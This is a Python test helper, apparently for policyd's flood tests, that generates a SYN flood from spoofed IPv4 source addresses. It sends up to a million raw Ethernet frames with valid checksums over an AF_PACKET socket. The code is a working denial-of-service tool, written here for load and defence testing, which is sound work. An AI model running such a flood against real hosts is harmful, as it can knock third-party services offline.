#!/usr/bin/python3
"""A SYN flood from spoofed sources, for policyd's flood tests (stdlib only).

Runs in the client namespace and writes Ethernet frames straight onto --iface (AF_PACKET):
--count TCP SYNs to --dst:--dport, each from another source address in --net (IPv4) and
another source port, with valid IP and TCP checksums, as fast as the socket takes them.
Nothing answers them (the sources exist nowhere). Prints {"sent": N, "elapsed_ms": T}.
"""
import argparse
import ipaddress
import json
import random
import socket
import struct
import time


def checksum(data):
    if len(data) % 2:
        data += b"\0"
    s = sum(struct.unpack(f"!{len(data) // 2}H", data))
    while s >> 16:
        s = (s & 0xFFFF) + (s >> 16)
    return ~s & 0xFFFF


def mac(text):
    return bytes(int(part, 16) for part in text.split(":"))


def main():
    p = argparse.ArgumentParser()
    p.add_argument("--iface", required=True)
    p.add_argument("--src-mac", required=True)
    p.add_argument("--gw-mac", required=True)
    p.add_argument("--dst", required=True)
    p.add_argument("--dport", type=int, default=80)
    p.add_argument("--count", type=int, required=True)
    p.add_argument("--net", default="10.77.0.0/16")
    p.add_argument("--seed", type=int, default=1)
    a = p.parse_args()
    if not 0 < a.count <= 1_000_000:
        raise SystemExit("synflood: --count must be 1..1000000")
    net = ipaddress.ip_network(a.net)
    hosts = net.num_addresses - 2
    rng = random.Random(a.seed)
    dst = socket.inet_aton(a.dst)
    eth = mac(a.gw_mac) + mac(a.src_mac) + b"\x08\x00"
    s = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
    s.bind((a.iface, 0))
    started = time.monotonic()
    sent = 0
    for i in range(a.count):
        src = (net.network_address + 1 + (i % hosts)).packed
        sport = 1024 + (i * 7) % 64000
        seq = rng.getrandbits(32)
        tcp = struct.pack("!HHIIBBHHH", sport, a.dport, seq, 0, 5 << 4, 0x02, 64240, 0, 0)
        pseudo = src + dst + struct.pack("!BBH", 0, 6, len(tcp))
        tcp = tcp[:16] + struct.pack("!H", checksum(pseudo + tcp)) + tcp[18:]
        ip = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(tcp), i & 0xFFFF, 0x4000, 64, 6, 0, src, dst)
        ip = ip[:10] + struct.pack("!H", checksum(ip)) + ip[12:]
        frame = eth + ip + tcp
        for _ in range(100):  # the socket's buffer full: wait a little and try again (bounded)
            try:
                s.send(frame)
                sent += 1
                break
            except BlockingIOError:
                time.sleep(0.001)
            except OSError as e:
                if e.errno != 105:  # ENOBUFS
                    raise
                time.sleep(0.001)
    print(json.dumps({"sent": sent, "elapsed_ms": int((time.monotonic() - started) * 1000)}))


if __name__ == "__main__":
    main()
